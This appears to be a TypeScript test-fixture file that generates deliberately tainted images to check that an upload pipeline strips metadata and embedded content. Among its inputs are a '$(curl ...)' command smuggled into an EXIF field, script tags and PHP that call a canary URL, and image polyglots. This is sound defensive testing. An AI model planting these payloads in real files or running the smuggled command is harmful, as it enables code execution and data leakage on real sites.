import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { bytesIn, intoJpeg, intoPng, intoWebp, pngChunk } from './bytes.ts'
import type { Upload } from './kinds.ts'

/** A marker inside all data that must be removed. */
export const secret = 'tell-nobody'

type Format = 'jpeg' | 'png' | 'webp' | 'avif'
export const formats = ['jpeg', 'png', 'webp', 'avif'] as const satisfies Format[]

export function aGoodOne(format: Format, width = 160, height = 120): Promise<Buffer> {
  const at = { create: { width: 80, height: 60, channels: 3, background: { r: 10, g: 10, b: 200 } } } as const
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 100, b: 20 } } })
    .composite([{ input: at, left: 5, top: 9 }])
    .toFormat(format)
    .toBuffer()
}

/** Valid images with extra data: everything except the pixels must be removed. */
export function secrets(canary: string): Upload[] {
  const page = `<!DOCTYPE html><script src="${canary}">${secret}</script>`
  const code = `<?php file_get_contents("${canary}"); /* ${secret} */ ?>`
  return [
    ...formats.flatMap((format) => [...inWords(format, canary), ...behind(format, [page, code])]),
    ...inside(page, code),
  ]
}

function inWords(format: Format, canary: string): Upload[] {
  const location = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '12/1 58/1 17/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '77/1 35/1 40/1',
  }
  const exif = {
    IFD0: {
      Copyright: secret,
      ImageDescription: `<script src="${canary}">${secret}</script>`,
      Software: `$(curl ${canary})`,
    },
    IFD3: location,
  }
  const xmp = `<?xpacket begin="" id="x"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${canary}">${secret}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
  const good = async () => sharp(await aGoodOne(format))
  const made: [string, () => Promise<Buffer>][] = [
    ['a location', async () => (await good()).withExif(exif).toFormat(format).toBuffer()],
    ['a URL in XMP', async () => (await good()).withXmp(xmp).toFormat(format).toBuffer()],
    ['a colour profile', async () => (await good()).withIccProfile('p3').toFormat(format).toBuffer()],
  ]
  return made.map(([name, make]) => ({
    name: `${format} with ${name}`,
    expected: 'taken',
    type: `image/${format}`,
    make,
  }))
}

/** Polyglots: an image followed by another file. */
function behind(format: Format, [page = '', code = '']: string[]): Upload[] {
  const archive = `PK\x03\x04\x14\0\0\0\0\0${secret}.html${page}PK\x05\x06${'\0'.repeat(18)}`
  const more: [string, string][] = [
    ['a page', page],
    ['PHP', code],
    ['an archive', archive],
  ]
  return more.map(([name, text]) => ({
    name: `${format} followed by ${name}`,
    expected: 'either',
    type: `image/${format}`,
    make: async () => Buffer.concat([await aGoodOne(format), bytesIn(text)]),
  }))
}

const comment = 0xfe
const app = (number: number) => 0xe0 + number

function inside(page: string, code: string): Upload[] {
  const jpeg =
    (...segments: [number, string][]) =>
    async () =>
      intoJpeg(await aGoodOne('jpeg'), ...segments.map(([marker, text]): [number, Buffer] => [marker, bytesIn(text)]))
  const png =
    (...chunks: [string, Buffer][]) =>
    async () =>
      intoPng(await aGoodOne('png'), ...chunks.map(([name, data]) => pngChunk(name, data)))
  const packed = deflateSync(bytesIn(page))
  const kinds: [string, () => Promise<Buffer>][] = [
    ['a page as the comment of a JPEG', jpeg([comment, page])],
    ['PHP as the comment of a JPEG', jpeg([comment, code])],
    ['a script that begins in the length of a segment', jpeg([app(0), `*/=1;${page}/*`])],
    ['a profile that is a page', jpeg([app(2), `ICC_PROFILE\0\x01\x01${page}`])],
    ['IPTC that is a page', jpeg([app(13), `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x40\x1c\x02\x78\0\x30${page}`])],
    ['EXIF that is a page', jpeg([app(1), `Exif\0\0${page}`])],
    ['EXIF with an offset out of bounds', jpeg([app(1), 'Exif\0\0MM\0*\xff\xff\xff\xff'])],
    [
      'EXIF with a circular offset',
      jpeg([app(1), `Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08`]),
    ],
    [
      'a JPEG with an invalid orientation',
      jpeg([app(1), `Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0\0\0\0\0`]),
    ],
    ['a page as the text of a PNG', png(['tEXt', bytesIn(`Comment\0${page}`)])],
    ['a compressed page in a PNG', png(['zTXt', Buffer.concat([bytesIn('Comment\0\0'), packed])])],
    ['a page as the international text of a PNG', png(['iTXt', bytesIn(`Comment\0\0\0en\0\0${page}`)])],
    ['a profile of a PNG that is a page', png(['iCCP', Buffer.concat([bytesIn('x\0\0'), packed])])],
    ['an unknown chunk of a PNG', png(['evIl', bytesIn(page)])],
    ['an animated PNG', png(['acTL', bytesIn('\0\0\0\x02\0\0\0\0')], ['fcTL', Buffer.alloc(26)])],
    ['an unknown chunk of a WebP', async () => intoWebp(await aGoodOne('webp'), ['EVIL', bytesIn(page)])],
    ['EXIF of a WebP that is a page', async () => intoWebp(await aGoodOne('webp'), ['EXIF', bytesIn(page)])],
    [
      'an unknown box of an AVIF',
      async () => Buffer.concat([await aGoodOne('avif'), bytesIn(`\0\0\0\x40evil${page.slice(0, 56).padEnd(56)}`)]),
    ],
  ]
  return kinds.map(([name, make]) => ({ name, expected: 'either', type: 'image/png', make }))
}
